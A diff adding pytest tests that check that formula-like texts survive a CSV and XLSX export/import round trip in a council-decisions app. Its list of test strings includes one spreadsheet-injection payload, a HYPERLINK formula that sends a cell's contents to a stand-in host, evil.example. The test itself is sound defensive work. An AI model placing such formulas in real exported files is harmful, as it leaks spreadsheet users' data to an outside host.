@@ -159,3 +159,56 @@ def test_an_export_imported_over_itself_changes_nothing(mixed, tmp_path):
     assert summary.decisions_updated == len(before[0]) and summary.decisions_created == 0
     assert summary.recommendations_replaced == summary.recommendations_created == len(before[1])
     assert _everything() == before
+
+
+# Texts a spreadsheet would take for formulas, and texts near them that must come back as they
+# were: quotes before a formula character, a lone quote, a carriage return and OOXML's own escape
+# written literally (an XLSX holds a return as `_x000D_`).
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+44 20 7946 0000",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tindented with a tab",
+    "\rbegins with a carriage return",
+    "=",
+    "-",
+    "'tis a quote first",
+    "'=a quoted formula",
+    "''+two quotes",
+    "'",
+    "#N/A",
+    "a return\r\ninside, _x000D_ and _x005F_ written out",
+)
+
+
+@pytest.fixture
+def hostile(mixed):
+    for n, text in enumerate(HOSTILE):
+        decision = DecisionFactory(
+            reference=f"22 801 {n:03d}",
+            council=mixed["ambridge"],
+            decision_date=D(2022, 8, 1),
+            # Trailing spaces are cut from every cell an import reads, so none are stored here.
+            category=text[:20].rstrip(),
+            subcategory=text[:12].rstrip(),
+            summary=text,
+        )
+        RecommendationFactory(decision=decision, description=text)
+    return mixed
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
+def test_formula_like_texts_come_back_exactly(hostile, tmp_path, suffix):
+    before = _everything()
+    stored = {d["summary"] for d in before[0]} | {r["description"] for r in before[1]}
+    assert stored >= set(HOSTILE)
+    decisions_path, recommendations_path = _paths(tmp_path, suffix)
+    decisions_export(decisions_path=decisions_path, recommendations_path=recommendations_path)
+    Recommendation.objects.all().delete()
+    Decision.objects.all().delete()
+    decisions_import(decisions_path=decisions_path, recommendations_path=recommendations_path)
+    after = _everything()
+    assert after[0] == before[0]
+    assert after[1] == before[1]
+    assert after[2] == before[2]
